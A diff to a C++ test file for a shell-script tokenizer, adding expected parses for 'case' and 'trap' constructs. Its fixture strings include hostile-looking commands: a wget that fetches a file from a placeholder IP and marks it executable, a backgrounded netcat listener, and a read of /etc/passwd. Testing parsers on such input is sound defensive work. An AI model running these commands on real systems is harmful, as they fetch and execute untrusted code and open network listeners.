@@ -30,7 +30,9 @@ TEST(ScriptsTest, GivesOneFactPerSimpleCommand) {
           "command echo it's $(id -u) program=echo line=5 "
           "redirect=>>/tmp/log 2>&1",
           "command id -u program=id line=5 within=echo",
+          "command case $1 in start|stop program=case line=8",
           "command rm -rf /tmp/demo dir program=rm line=8",
+          "command case $1 in * program=case line=9",
           "command exit 1 program=exit line=9",
           "command cat program=cat line=11 redirect=<<EOF >/etc/demo.conf",
           "command sh -c wget -q http://192.0.2.1/y; chmod +x y program=sh "
@@ -41,7 +43,7 @@ TEST(ScriptsTest, GivesOneFactPerSimpleCommand) {
           "command nohup busybox nc -l -p 1 program=nc line=16",
           "command echo long line program=echo line=17"}));
   EXPECT_EQ(PlaceText(seen.facts[4], kShell), "grep -q 'a;b|c' /etc/passwd");
-  EXPECT_EQ(PlaceText(seen.facts[16], kShell), "echo long \\\n  line");
+  EXPECT_EQ(PlaceText(seen.facts[18], kShell), "echo long \\\n  line");
 }
 
 struct Case {
@@ -65,8 +67,10 @@ TEST(ScriptsTest, TokenizesAsAShellDoes) {
       {"while read x; do a $x; done < f", {"read x", "a $x"}},
       {"for x in b c; do a; done", {"a"}},
       {"for ((i=0; i<3; i++)); do a; done", {"a"}},
-      {"case x in (a) b;; c|d) e;; esac; f", {"b", "e", "f"}},
-      {"case $(a) in *) case y in z) b;; esac;; esac", {"a", "b"}},
+      {"case x in (a) b;; c|d) e;; esac; f",
+       {"case x in a", "b", "case x in c|d", "e", "f"}},
+      {"case $(a) in *) case y in z) b;; esac;; esac",
+       {"a", "case $(a) in *", "case y in z", "b"}},
       {"f() { a; }; function g { b; }", {"a", "b"}},
       {"a <<E; b\nc\nE\nd", {"a", "b", "d"}},
       {"a <<-'E'\n\tc; $(x)\n\tE\nd", {"a", "d"}},
@@ -83,6 +87,8 @@ TEST(ScriptsTest, TokenizesAsAShellDoes) {
       {"> f", {}},
       {"sh <<E\na; b\nE\n", {"sh", "a", "b"}},
       {"eval \"a; b\"", {"eval a; b", "a", "b"}},
+      {"trap 'a; b' EXIT", {"trap a; b EXIT", "a", "b"}},
+      {"trap - EXIT", {"trap - EXIT"}},
       {"su - u -c 'a b'", {"su - u -c a b", "a b"}},
       {"", {}},
       {")))", {}},
